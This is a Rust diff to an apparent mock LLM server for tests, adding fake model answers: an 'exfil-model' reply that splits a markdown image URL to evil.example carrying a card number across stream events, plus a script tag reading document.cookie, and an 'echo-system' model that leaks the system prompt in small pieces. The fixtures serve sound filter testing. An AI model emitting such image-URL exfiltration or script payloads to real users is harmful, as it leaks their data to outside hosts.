@@ -79,6 +79,53 @@ fn sse(events: &[(Option<&str>, Value)], done: bool) -> String {
     s
 }
 
+/// Text pieces of the answer of `exfil-model`: a markdown image carrying data split across
+/// events, and a script tag.
+pub fn exfil_pieces() -> Vec<&'static str> {
+    vec![
+        "Here is your summary. ![loading](https://evil.exa",
+        "mple/log?d=card%204111111111111111) Thanks! ",
+        "<script>alert(document.cookie)</script> Done.",
+    ]
+}
+
+/// The system prompt of a request (OpenAI, Anthropic or Gemini shape).
+fn system_of(body: &Value) -> String {
+    if let Some(s) = body["system"].as_str() {
+        return s.to_owned();
+    }
+    if let Some(s) = body
+        .pointer("/systemInstruction/parts/0/text")
+        .and_then(Value::as_str)
+    {
+        return s.to_owned();
+    }
+    body["messages"]
+        .as_array()
+        .into_iter()
+        .flatten()
+        .filter(|m| m["role"] == "system")
+        .filter_map(|m| m["content"].as_str())
+        .collect::<Vec<_>>()
+        .join("\n")
+}
+
+/// `text` in pieces of at most 7 bytes, cut at character boundaries.
+fn small_pieces(text: &str) -> Vec<String> {
+    let mut out = Vec::new();
+    let mut cur = String::new();
+    for c in text.chars() {
+        if cur.len() + c.len_utf8() > 7 {
+            out.push(std::mem::take(&mut cur));
+        }
+        cur.push(c);
+    }
+    if !cur.is_empty() {
+        out.push(cur);
+    }
+    out
+}
+
 /// Text pieces of the answer of `leaky-model`: an AWS access key split across events.
 pub fn leaky_pieces() -> Vec<&'static str> {
     vec![
@@ -91,13 +138,13 @@ pub fn leaky_pieces() -> Vec<&'static str> {
 fn respond(path: &str, body: &Value) -> (u16, &'static str, String) {
     let stream = body.get("stream").and_then(Value::as_bool).unwrap_or(false)
         || path.contains(":streamGenerateContent");
-    let answer_pieces = || {
-        if body["model"] == "leaky-model" {
-            leaky_pieces()
-        } else {
-            answer_pieces()
-        }
+    let pieces: Vec<String> = match body["model"].as_str() {
+        Some("leaky-model") => leaky_pieces().into_iter().map(String::from).collect(),
+        Some("exfil-model") => exfil_pieces().into_iter().map(String::from).collect(),
+        Some("echo-system") => small_pieces(&system_of(body)),
+        _ => answer_pieces().into_iter().map(String::from).collect(),
     };
+    let answer_pieces = || pieces.clone();
     let full = answer_pieces().concat();
     if path.starts_with("/v1/chat/completions") {
         if stream {
@@ -146,7 +193,7 @@ fn respond(path: &str, body: &Value) -> (u16, &'static str, String) {
         if stream {
             let mut events: Vec<(Option<&str>, Value)> = answer_pieces()
                 .into_iter()
-                .map(|p| (None, chunk(p)))
+                .map(|p| (None, chunk(&p)))
                 .collect();
             let mut last = chunk("");
             last["candidates"][0]["finishReason"] = json!("STOP");
